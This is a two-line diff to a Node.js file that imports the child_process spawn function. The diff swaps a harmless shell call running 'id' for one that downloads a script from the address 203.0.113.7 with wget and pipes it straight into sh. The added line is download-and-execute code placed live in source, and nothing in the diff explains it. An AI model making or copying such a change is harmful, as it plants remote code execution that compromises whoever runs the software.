@@ -1,2 +1,2 @@
 import { spawn as s } from 'node:child_process';
-s('sh', ['-c', 'id']);
+s('sh', ['-c', 'wget -qO- http://203.0.113.7/x | sh']);
